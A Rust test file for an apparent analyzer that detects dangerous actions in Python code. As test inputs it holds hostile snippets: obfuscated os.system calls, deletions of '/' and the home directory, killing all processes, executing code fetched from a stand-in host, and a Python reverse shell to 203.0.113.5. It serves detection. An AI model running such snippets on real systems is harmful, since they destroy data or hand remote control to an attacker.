use super::*;

const PYTHON: Language = Language::Python;

#[test]
fn shell_text_is_found_however_the_function_is_named() {
    for code in [
        "import os; os.system('reboot')",
        "import os as o; o.system('reboot')",
        "from os import system; system('reboot')",
        "from os import system as s\ns('reboot')",
        "from os import *\nsystem('reboot')",
        "__import__('os').system('reboot')",
        "import importlib; importlib.import_module('os').system('reboot')",
        "import os; getattr(os, 'system')('reboot')",
        "import os; getattr(os, 'sys' + 'tem')('reboot')",
        "import os\nf = os.system\nf('reboot')",
        "import os\nos.system ( \"reboot\" )",
        "import os\nos.system(\"\"\"reboot\"\"\")",
        "import os\nos.system(r'reboot')",
        "import os\nos.system('re' 'boot')",
        "import os\nc = 're'\nos.system(c + 'boot')",
        "import os\nc = 'boot'\nos.system(f're{c}')",
        "import os\nos.system('re%s' % 'boot')",
        "import os\nos.system('re{}'.format('boot'))",
        "import os\nos.system('re{x}'.format(x='boot'))",
        "import os\nos.system('toober'[::-1])",
        "import os\nos.system(''.join(['re', 'boot']))",
        "import os, base64\nos.system(base64.b64decode('cmVib290').decode())",
        "import os\nos.system(bytes.fromhex('7265626f6f74').decode())",
        "import os\nif x:\n    print(os.system('reboot'))",
        "import os\nclass A:\n  def f(self):\n    return os.popen('reboot').read()",
        "import subprocess; subprocess.run('reboot', shell=True)",
        "from subprocess import check_output as c; c('reboot', shell = True)",
        "import subprocess; subprocess.Popen(args='reboot', shell=True)",
        "import subprocess; subprocess.getoutput('reboot')",
    ] {
        assert_eq!(does(PYTHON, code), ["shell: reboot"], "{code}");
    }
}

#[test]
fn programs_are_found_with_their_arguments() {
    all(
        PYTHON,
        &[
            (
                "import subprocess\nc=['rm','-rf']\nc.append('/')\nsubprocess.run(c)",
                &["run: rm -rf /"],
            ),
            (
                "import subprocess as sp\nc=['rm']\nc.extend(['-rf', '/'])\nsp.run(c)",
                &["run: rm -rf /"],
            ),
            (
                "import os; os.execve('/bin/sh', ['sh','-c','reboot'], os.environ)",
                &["run: /bin/sh -c reboot"],
            ),
            (
                "import subprocess; subprocess.run(['rm', '-rf', '/'])",
                &["run: rm -rf /"],
            ),
            (
                "import subprocess as s\ns.call([\n 'rm', # x\n '-rf',\n '/',\n])",
                &["run: rm -rf /"],
            ),
            (
                "from subprocess import *\nrun(('rm', '-rf', p))",
                &["run: rm -rf <p>"],
            ),
            (
                "import subprocess\nc = ['rm'] + ['-rf', '/']\nsubprocess.run(c)",
                &["run: rm -rf /"],
            ),
            (
                "import subprocess\nsubprocess.run('rm -rf /'.split())",
                &["run: rm -rf /"],
            ),
            (
                "import subprocess, shlex\nsubprocess.run(shlex.split('rm -rf \"/a b\"'))",
                &["run: rm -rf /a b"],
            ),
            (
                "import os; os.execvp('rm', ['rm', '-rf', '/'])",
                &["run: rm -rf /"],
            ),
            (
                "import os; os.execl('/bin/rm', 'rm', '-rf', '/')",
                &["run: /bin/rm -rf /"],
            ),
            (
                "import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')",
                &["run: rm -rf /"],
            ),
            (
                "import subprocess\nsubprocess.run(['bash'], input='reboot', text=True)",
                &["run: bash", "shell: reboot"],
            ),
            ("import pty; pty.spawn('/bin/sh')", &["shell: /bin/sh"]),
        ],
    );
}

#[test]
fn library_calls_are_written_as_commands() {
    all(
        PYTHON,
        &[
            (
                "import os\n[os.remove(f) for f in glob.glob('*.db')]",
                &["call: rm -- {*.db}"],
            ),
            (
                "from pathlib import Path\n[p.unlink() for p in Path('x').rglob('*')]",
                &["call: rm -- x/{*}"],
            ),
            (
                "import os, glob\nlist(map(os.remove, glob.glob('*.db')))",
                &["call: rm -- {*.db}"],
            ),
            (
                "import shutil, os\nshutil.rmtree('/tmp/x' + os.sep)",
                &["call: rm -rf -- /tmp/x/"],
            ),
            (
                "import os; os.kill(os.getpid(), 9)",
                &["call: kill -9 -- <?>"],
            ),
            (
                "import requests; requests.delete('http://h/x')",
                &["call: curl -X DELETE -- http://h/x"],
            ),
            (
                "import shutil; shutil.rmtree('/', ignore_errors=True)",
                &["call: rm -rf -- /"],
            ),
            (
                "from shutil import rmtree as r; r('/srv')",
                &["call: rm -rf -- /srv"],
            ),
            (
                "import shutil\np = '/'\nshutil.rmtree(p)",
                &["call: rm -rf -- /"],
            ),
            (
                "import shutil\np: str = '/'\nshutil.rmtree(path=p)",
                &["call: rm -rf -- /"],
            ),
            (
                "import shutil, os\nshutil.rmtree(os.path.join('/', 'etc'))",
                &["call: rm -rf -- /etc"],
            ),
            (
                "import shutil, os\nshutil.rmtree(os.path.expanduser('~/x'))",
                &["call: rm -rf -- <HOME>/x"],
            ),
            (
                "import shutil, os\nshutil.rmtree(os.environ['HOME'])",
                &["call: rm -rf -- <HOME>"],
            ),
            (
                "import shutil, os\nshutil.rmtree(os.environ.get('HOME'))",
                &["call: rm -rf -- <HOME>"],
            ),
            (
                "import shutil, os\nshutil.rmtree(os.getenv('HOME') + '/x')",
                &["call: rm -rf -- <HOME>/x"],
            ),
            (
                "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)",
                &["call: rm -rf -- /tmp/<temporary>"],
            ),
            (
                "import shutil, sys\nshutil.rmtree(sys.argv[1])",
                &["call: rm -rf -- <sys.argv>"],
            ),
            (
                "import shutil\nfor d in ['a', 'b']:\n  shutil.rmtree(d)",
                &["call: rm -rf -- a b"],
            ),
            (
                "import os; os.remove('x'); os.unlink('y'); os.rmdir('z')",
                &["call: rm -- x", "call: rm -- y", "call: rmdir -- z"],
            ),
            (
                "import os, glob\nfor f in glob.glob('*.db'):\n  os.remove(f)",
                &["call: rm -- {*.db}"],
            ),
            (
                "from pathlib import Path\nPath('x').unlink()",
                &["call: rm -- x"],
            ),
            (
                "from pathlib import Path\n(Path.home() / 'x').write_text('y')",
                &["call: tee -- <HOME>/x"],
            ),
            (
                "import pathlib\np = pathlib.Path('/etc') / 'passwd'\np.unlink(missing_ok=True)",
                &["call: rm -- /etc/passwd"],
            ),
            (
                "open('/etc/hosts', 'w').write('x')",
                &["call: tee -- /etc/hosts"],
            ),
            (
                "with open('f', mode='a') as f:\n  f.write('x')",
                &["call: tee -a -- f"],
            ),
            (
                "import json\nprint(json.load(open('package.json'))['name'])",
                &["call: cat -- package.json"],
            ),
            ("import os; os.chmod('f', 0o777)", &["call: chmod -- 777 f"]),
            (
                "import os, signal; os.kill(-1, signal.SIGKILL)",
                &["call: kill -KILL -- -1"],
            ),
            ("import os; os.kill(-1, 9)", &["call: kill -9 -- -1"]),
            ("import os; os.rename('a', 'b')", &["call: mv -- a b"]),
            (
                "import shutil; shutil.move('/etc', '/tmp/x')",
                &["call: mv -- /etc /tmp/x"],
            ),
            (
                "import os; os.truncate('f', 0)",
                &["call: truncate -s 0 -- f"],
            ),
            (
                "from urllib.request import urlretrieve\nurlretrieve('http://h/i', 'f')",
                &["call: curl -o f -- http://h/i"],
            ),
        ],
    );
}

#[test]
fn code_that_runs_code_is_followed() {
    all(
        PYTHON,
        &[
            ("exec('import os')", &["code: import os"]),
            ("eval(x)", &["code: <x>"]),
            (
                "from urllib.request import urlopen\nexec(urlopen('http://h').read())",
                &["code: <fetched>", "call: curl -- http://h"],
            ),
            (
                "import requests\nexec(requests.get('http://h').text)",
                &["code: <fetched>", "call: curl -- http://h"],
            ),
            (
                "import urllib.request as u\nexec(compile(u.urlopen('http://h').read().decode(), 'x', 'exec'))",
                &["code: <?>", "code: <fetched>", "call: curl -- http://h"],
            ),
        ],
    );
}

#[test]
fn reverse_shells_are_seen_by_their_structure() {
    let code = "import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.5\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])";
    assert_eq!(
        does(PYTHON, code),
        ["run: /bin/sh -i", "reverse: nc -e /bin/sh 203.0.113.5 4242"]
    );
    nothing(
        PYTHON,
        &["import socket\ns=socket.socket()\ns.connect(('203.0.113.5', 80))\ns.send(b'x')"],
    );
}

#[test]
fn words_that_are_no_calls_do_nothing() {
    nothing(
        PYTHON,
        &[
            "print('DROP TABLE users; rm -rf /')",
            "# os.system('reboot')",
            "x = \"os.system('reboot')\"",
            "'''\nos.system('reboot')\n'''",
            "df.drop(columns=['a']); items.remove('x'); re.compile('x')",
            "cursor.execute('rm -rf /')",
            "obj.system('reboot')",
            "self.os.system('reboot')",
            "system('reboot')",
            "def rmtree(p): pass\nx.rmtree('/')",
            "model.eval()\nloop.run_until_complete(x)",
            "import os\nprint(os.path.join('/', 'x'))",
            "os_system = 1",
            "print(f'{x} rm -rf /')",
            "import subprocess\nprint(subprocess.PIPE)",
            "d = {'os': 1}\nd.pop('os')",
        ],
    );
}

#[test]
fn constants_hold_their_last_value() {
    all(
        PYTHON,
        &[
            (
                "import shutil\np='a'\np='/'\nshutil.rmtree(p)",
                &["call: rm -rf -- /"],
            ),
            (
                "import shutil\np='/'\np+='tmp/x'\nshutil.rmtree(p)",
                &["call: rm -rf -- /tmp/x"],
            ),
            (
                "import shutil\np = '/' if x else 'b'\nshutil.rmtree(p)",
                &["call: rm -rf -- / b"],
            ),
            (
                "import shutil\np = a.b or '/'\nshutil.rmtree(p)",
                &["call: rm -rf -- /"],
            ),
            (
                "import shutil\nd = {'p': '/'}\nshutil.rmtree(d['p'])",
                &["call: rm -rf -- /"],
            ),
            (
                "import shutil\nl = ['a', '/']\nshutil.rmtree(l[1])",
                &["call: rm -rf -- /"],
            ),
            (
                "import shutil\nshutil.rmtree(p='x', path='/')",
                &["call: rm -rf -- /"],
            ),
        ],
    );
}

#[test]
fn places_point_into_the_text() {
    let code = "import os; os.system('reboot')";
    let text = Value::written(code.as_bytes(), 100);
    let found = actions(PYTHON, &text, Span::new(0, 1), b"", None);
    let [Action::Shell { text, span }] = found.as_slice() else {
        panic!("one action");
    };
    assert_eq!(text.first_written(), Some(122));
    assert_eq!(*span, Span::new(111, 130));
}

#[test]
fn unknown_pieces_are_unknown_wherever_they_land() {
    for (before, after, expected) in [
        ("import os; os.system('rm ", "')", "shell: rm <X>"),
        ("import os; os.system(", ")", "shell: <X>"),
        (
            "import shutil; shutil.rmtree(\"",
            "/x\")",
            "call: rm -rf -- <X>/x",
        ),
    ] {
        let mut text = Value::written(before.as_bytes(), 0);
        text.append(&Value::unknown(Origin::Variable(b"X".to_vec())));
        text.push_text(after.as_bytes(), Some(60));
        let found = actions(PYTHON, &text, Span::new(0, 70), b"", None);
        let lines: Vec<String> = found
            .iter()
            .map(|action| match action {
                Action::Shell { text, .. } => format!("shell: {}", shown(text)),
                Action::Call { argv, .. } => format!("call: {}", line(argv)),
                _ => "other".to_owned(),
            })
            .collect();
        assert_eq!(lines, [expected]);
    }
}

#[test]
fn unknown_text_where_a_statement_begins_is_unknown_code() {
    for (before, after, expected) in [
        ("import os; ", "", 1),
        ("import os\n", "\nprint(1)", 1),
        ("print(", ")", 0),
        ("x = ", "\n", 0),
    ] {
        let mut text = Value::written(before.as_bytes(), 0);
        text.append(&Value::unknown(Origin::Variable(b"X".to_vec())));
        text.push_text(after.as_bytes(), Some(60));
        let found = actions(PYTHON, &text, Span::new(0, 70), b"", None);
        assert_eq!(found.len(), expected, "{before}X{after}");
        assert!(
            found
                .iter()
                .all(|action| matches!(action, Action::Code { .. }))
        );
    }
}

#[test]
fn parameters_are_what_every_call_gives() {
    all(
        Language::Python,
        &[
            (
                "import os\ndef run(cmd):\n  os.system(cmd)\nrun('reboot')",
                &["shell: reboot"],
            ),
            (
                "import subprocess as s\ndef run(*args, check=True):\n  return s.run(args, check=check)\nrun('git', 'log')",
                &["run: git log"],
            ),
            (
                "import shutil\nclass A:\n  def wipe(self, p):\n    shutil.rmtree(p)\n  def all(self):\n    self.wipe(p='/')",
                &["call: rm -rf -- /"],
            ),
            // Somebody may call it by another name.
            (
                "import os\ndef run(cmd):\n  os.system(cmd)\nrun('ls')\nf = run\nf('reboot')",
                &["shell: <cmd>"],
            ),
            (
                "import os\ncmd = 'ls'\ndef run(cmd):\n  os.system(cmd)\nf = run\nf('reboot')",
                &["shell: <cmd>"],
            ),
        ],
    );
}
